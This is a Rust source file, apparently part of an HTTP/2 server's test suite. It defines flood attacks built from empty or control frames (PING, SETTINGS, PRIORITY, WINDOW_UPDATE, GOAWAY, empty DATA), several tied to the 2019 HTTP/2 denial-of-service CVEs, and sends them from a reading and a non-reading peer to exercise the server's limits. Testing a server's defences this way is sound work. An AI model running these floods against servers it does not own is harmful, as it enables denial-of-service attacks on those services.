//! Floods of frames that carry nothing, each from two connections at once: one that reads what comes, one that never
//! reads.

use bytes::{BufMut as _, Bytes, BytesMut};
use e2e::{Frame, flags, kind, setting};
use futures_util::future::join;

use super::hpack::Head;
use super::{Target, batched};
use crate::attack::{Attack, Work};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "pings",
        does: "PING (CVE-2019-9512), also from a peer that never reads",
        work: |target| frames(target, 0, vec![Frame::bytes(kind::PING, 0, 0, &[1; 8])]),
        limits: &["pings"],
        ..Attack::USUAL
    },
    Attack {
        name: "settings",
        does: "SETTINGS that change the window of 200 open streams (CVE-2019-9515), also from a peer that never reads",
        work: |target| {
            let window = |octets| {
                let mut payload = BytesMut::new();
                payload.put_u16(setting::INITIAL_WINDOW_SIZE);
                payload.put_u32(octets);
                Frame::bytes(kind::SETTINGS, 0, 0, &payload)
            };
            frames(target, 200, vec![window(1), window(70_000)])
        },
        limits: &["settings"],
        ..Attack::USUAL
    },
    Attack {
        name: "priorities",
        does: "PRIORITY (CVE-2019-9513), also from a peer that never reads",
        work: |target| {
            frames(
                target,
                0,
                vec![Frame::bytes(kind::PRIORITY, 0, 5, &[0, 0, 0, 3, 1])],
            )
        },
        limits: &["priorities"],
        ..Attack::USUAL
    },
    Attack {
        name: "window_updates",
        does: "WINDOW_UPDATE on the connection and on a stream, also from a peer that never reads",
        work: |target| {
            let by_one = 1_u32.to_be_bytes();
            let update = |stream| Frame::bytes(kind::WINDOW_UPDATE, 0, stream, &by_one);
            frames(target, 1, vec![update(0), update(1)])
        },
        limits: &["window_updates"],
        ..Attack::USUAL
    },
    Attack {
        name: "unknown_frames",
        does: "frames of unknown types, also from a peer that never reads",
        work: |target| frames(target, 0, vec![Frame::bytes(0xbb, 0, 0, b"what")]),
        limits: &["unknown_frames"],
        ..Attack::USUAL
    },
    Attack {
        name: "goaways",
        does: "GOAWAY, also from a peer that never reads",
        work: |target| frames(target, 0, vec![Frame::bytes(kind::GOAWAY, 0, 0, &[0; 8])]),
        limits: &["goaways"],
        ..Attack::USUAL
    },
    Attack {
        name: "empty_data",
        does: "DATA without data (CVE-2019-9518), also from a peer that never reads",
        work: |target| frames(target, 1, vec![Frame::bytes(kind::DATA, 0, 1, &[])]),
        limits: &["empty_data"],
        ..Attack::USUAL
    },
    Attack {
        name: "padded_data",
        does: "DATA that is padding alone, also from a peer that never reads",
        work: |target| frames(target, 1, vec![Frame::bytes(kind::DATA, flags::PADDED, 1, &[0])]),
        limits: &["empty_data"],
        ..Attack::USUAL
    },
];

/// Opens so many streams, and sends these frames for ever.
fn frames(target: Target, streams: u32, frames: Vec<Bytes>) -> Work {
    Box::pin(async move {
        let head = Head::new("localhost", "/t.T/Mute", &[], 0);
        let mut opening = BytesMut::new();
        (0..streams).for_each(|number| opening.put(head.frame(number, false)));
        let opening = opening.freeze();
        // Built once: a flood costs its sender nothing but the sending.
        let batch = batched(frames.into_iter().cycle()).next().unwrap();
        let flood = || std::iter::once(opening.clone()).chain(std::iter::repeat(batch.clone()));
        join(target.flood(&[], flood), target.deaf_flood(&[], flood)).await;
        target.tally()
    })
}
